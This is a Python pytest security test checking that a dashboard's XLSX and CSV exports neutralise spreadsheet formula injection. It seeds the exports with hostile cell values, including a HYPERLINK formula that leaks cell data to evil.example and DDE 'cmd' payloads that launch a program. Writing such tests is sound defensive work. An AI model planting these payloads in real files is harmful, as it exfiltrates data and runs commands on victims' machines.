"""#15 item 7: a complaint or a name that starts like a formula stays text in the ledger:
XLSX cells are strings (no `<f>`), CSV cells are neutralised as OWASP describes."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import AsyncIterator

import pytest
from aiohttp.test_utils import TestClient
from openpyxl import load_workbook

from issues.service import IssueService
from issues.views import PersonRef
from nlp.types import Detection
from tests.security.conftest import dashboard_as

OWNER = PersonRef(1, "王网格", "wang_wangge")
CHAT = -100
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我看详情")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


async def _hostile(svc: IssueService) -> None:
    await svc.register_group(CHAT, "=cmd|' /C calc'!A0", OWNER, [OWNER])
    for n, text in enumerate(HOSTILE, start=1):
        await svc.intake(CHAT, n, PersonRef(100 + n, text[:30]), text,
                         Detection(True, "noise", 0.9, False, text[:10], text[:20]))


@pytest.fixture
async def admin(db_url: str) -> AsyncIterator[TestClient]:
    async with dashboard_as(db_url, _hostile) as client:
        yield client


async def test_xlsx_cells_are_strings_never_formulas(admin: TestClient) -> None:
    resp = await admin.get("/export.xlsx")
    assert resp.status == 200
    data = await resp.read()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and all("<f>" not in s and "<f " not in s for s in sheets)
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    texts = {c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    assert any(str(t).startswith('=HYPERLINK') for t in texts)  # kept, as text
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


async def test_csv_cells_are_neutralised(admin: TestClient) -> None:
    resp = await admin.get("/export.csv")
    assert resp.status == 200
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert len(rows) == len(HOSTILE) + 1
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # kept, behind a quote
